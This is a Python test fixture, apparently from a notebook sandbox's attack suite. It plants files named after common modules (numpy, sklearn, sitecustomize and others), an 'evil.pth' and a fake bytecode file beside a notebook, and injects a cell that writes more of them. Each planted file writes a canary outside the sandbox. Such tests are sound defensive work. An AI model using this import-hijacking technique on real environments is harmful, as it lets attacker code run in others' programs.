# /// attack
# title = "Files named like modules beside the notebook, submitted and written"
# family = "planted files"
# ///
# ruff: noqa

import json

NAMES = (
    "random",
    "numpy",
    "pandas",
    "sitecustomize",
    "usercustomize",
    "json",
    "joblib",
    "sklearn",
    "base64",
)
CODE = "open({!r}, 'a').write('attacked')\nglobals()['__getattr__'] = lambda name: print\n"


def lay_out(folder, notebook, place):
    code = CODE.format(f"{place['outside']}/canary")
    for name in NAMES:
        (folder / f"{name}.py").write_text(code)
        for under in (f"{name}", f"sklearn/{name}"):
            (folder / "lib" / under).mkdir(parents=True, exist_ok=True)
            (folder / "lib" / under / "__init__.py").write_text(code)
    (folder / "evil.pth").write_text("import sitecustomize")
    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "numpy.cpython-311.pyc").write_bytes(b"\0" * 100)
    for cell in notebook["cells"]:
        if cell["id"] == "work_number":
            cell["source"] += (
                f"\nfor name in {NAMES!r}:\n    open(name + '_', 'w').write(''); open(name + '.py', 'w').write({code!r})"
            )
    (folder / "01_bench.ipynb").write_text(json.dumps(notebook))
